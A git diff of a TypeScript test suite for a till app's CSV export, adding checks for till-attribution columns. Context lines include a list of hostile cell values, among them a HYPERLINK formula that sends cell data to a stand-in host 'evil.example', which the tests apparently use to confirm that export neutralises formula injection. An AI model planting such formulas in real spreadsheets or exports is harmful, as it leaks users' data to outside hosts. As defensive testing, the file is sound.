@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { formatIsoInZone } from '../../shared/provider-time';
+import { referencePrefix } from '../../shared/till-id';
+import { createReferenceGenerator } from '../provider/references';
 import { createTestDb } from '../store/test-helpers';
 import { CSV_COLUMNS, buildCsvExport, csvFilename, csvText } from './csv';
 import { isoInZoneFn } from './report-range';
@@ -61,6 +63,8 @@ function parseCsv(text: string): string[][] {
 
 const LAGOS = 'Africa/Lagos';
 const DAY_START = Date.UTC(2026, 10, 21, 23); // 2026-11-22 00:00 Lagos
+/** The resolution columns of a row no exception of the report concerns. */
+const NO_EXCEPTION = ['', '', '', '', '', ''];
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
   '+2348012345678',
@@ -117,9 +121,12 @@ describe('CSV export', () => {
           `1500.${50 + n}`,
           guarded,
           String(sale.id),
-          guarded,
+          // Its own sale (the hostile reference is in no format of this app): this till.
+          'TILL1',
+          'this_till',
           guarded,
           'callback',
+          ...NO_EXCEPTION,
         ]);
       });
     })();
@@ -159,8 +166,10 @@ describe('CSV export', () => {
       'static-1',
       '',
       '',
+      'not_ours',
       '',
       'listing',
+      ...NO_EXCEPTION,
     ]);
 
     const out = buildCsvExport(db, {
@@ -255,5 +264,74 @@ describe('CSV export', () => {
         expect(iso(t), zone).toBe(formatIsoInZone(t, zone));
       }
     }
+  });
+
+  it("names the till of the shop that made every row, the same in every till's export", () => {
+    const { db } = createTestDb();
+    const clock = () => DAY_START + 9 * 3_600_000;
+    const a = createReferenceGenerator({ prefix: referencePrefix('till-a7k2'), clock });
+    const b = createReferenceGenerator({ prefix: referencePrefix('till-b9q3'), clock });
+    const own = a.next();
+    const ownCounter = a.next('counter');
+    const legacyCounter = 'CTR-FLEX-1';
+    for (const reference of [ownCounter, legacyCounter]) {
+      db.prepare(
+        `INSERT INTO virtual_accounts (type, purpose, reference, status, created_at, updated_at)
+         VALUES ('static-flex', 'counter', ?, 'active', 0, 0)`,
+      ).run(reference);
+    }
+    const sessionAt = DAY_START + 10 * 3_600_000;
+    const sale = insertSaleWithHistory(
+      db,
+      {
+        amountKobo: 1000,
+        tillId: 'till-a7k2',
+        cashier: 'Ada',
+        reference: own,
+        createdAt: sessionAt - 60_000,
+      },
+      [{ at: sessionAt - 50_000, state: 'awaiting_payment' }],
+    );
+    const rows: [string, number | null, string, string][] = [
+      [own, sale.id, 'TILLA7K2', 'this_till'],
+      [ownCounter, null, 'TILLA7K2', 'counter_account'],
+      [legacyCounter, null, 'TILLA7K2', 'counter_account'],
+      [b.next(), null, 'TILLB9Q3', 'other_till'],
+      [b.next('counter'), null, 'TILLB9Q3', 'counter_account'],
+      ['INV-77', null, '', 'not_ours'],
+    ];
+    rows.forEach(([reference, saleId], n) =>
+      insertInflowRow(
+        db,
+        {
+          sessionId: nextSessionId(),
+          reference,
+          amountKobo: 1000,
+          status: 'success',
+          occurredAt: sessionAt + n * 1000,
+          saleId,
+          listed: true,
+        },
+        0,
+      ),
+    );
+    const out = buildCsvExport(db, {
+      fromDay: '2026-11-22',
+      toDay: '2026-11-22',
+      timeZone: LAGOS,
+      cutoffHour: 0,
+      tillId: 'till-a7k2',
+    });
+    const [header = [], ...records] = parseCsv(out.csv);
+    const column = (name: string) => header.indexOf(name);
+    const inflowRows = records.filter((record) => record[column('source')] !== 'report');
+    expect(
+      inflowRows.map((record) => [
+        record[column('external_reference')],
+        record[column('till')],
+        record[column('till_attribution')],
+      ]),
+    ).toEqual(rows.map(([reference, , till, line]) => [reference, till, line]));
+    expect(column('till_attribution')).toBe(column('till') + 1);
   });
 });
